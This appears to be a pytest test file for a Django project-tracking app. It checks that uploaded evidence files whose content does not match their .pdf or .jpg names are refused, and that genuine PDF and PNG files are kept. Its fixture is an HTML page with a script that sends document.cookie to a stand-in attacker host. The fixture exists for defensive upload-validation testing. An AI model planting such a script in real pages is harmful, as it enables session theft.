"""Evidence is kept as it came and downloaded by others: it must hold what its name says."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from hoptac.plans.models import ProgressState
from hoptac.tracking.errors import TrackingError
from hoptac.tracking.models import Evidence, ProgressUpdate
from hoptac.tracking.services.progress import EvidenceFile
from hoptac.tracking.tests.test_progress import led, plan, report  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db

PAGE = b"<!doctype html><html><body><script>document.location='//evil.example/?'+document.cookie</script>"


def test_a_web_page_named_pdf_is_refused_and_nothing_is_saved(world, led):  # noqa: F811
    with pytest.raises(
        TrackingError, match=r"“bien-ban\.pdf” không thật sự là tệp \.pdf.*trang web \(HTML\)"
    ):
        report(
            led,
            world["users"]["office"],
            state=ProgressState.IN_PROGRESS,
            percent=5,
            files=[EvidenceFile("bien-ban.pdf", PAGE)],
        )
    assert not ProgressUpdate.objects.exists()
    assert not Evidence.objects.exists()


def test_the_report_form_shows_the_refusal(client, world, led):  # noqa: F811
    client.force_login(world["users"]["office"])
    response = client.post(
        reverse("tracking:activity", args=[led.pk]),
        {
            "action": "report",
            "version": 0,
            "state": "in_progress",
            "percent": "5",
            "evidence": SimpleUploadedFile("anh-hoi-nghi.jpg", PAGE),
        },
    )
    assert "không thật sự là tệp .jpg" in response.content.decode()
    assert not Evidence.objects.exists()


def test_a_real_pdf_and_image_are_kept(world, led, settings, tmp_path):  # noqa: F811
    settings.MEDIA_ROOT = tmp_path
    report(
        led,
        world["users"]["office"],
        state=ProgressState.IN_PROGRESS,
        percent=5,
        files=[
            EvidenceFile("bien-ban.pdf", b"%PDF-1.4 bien ban"),
            EvidenceFile("anh.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 20),
        ],
    )
    assert Evidence.objects.count() == 2
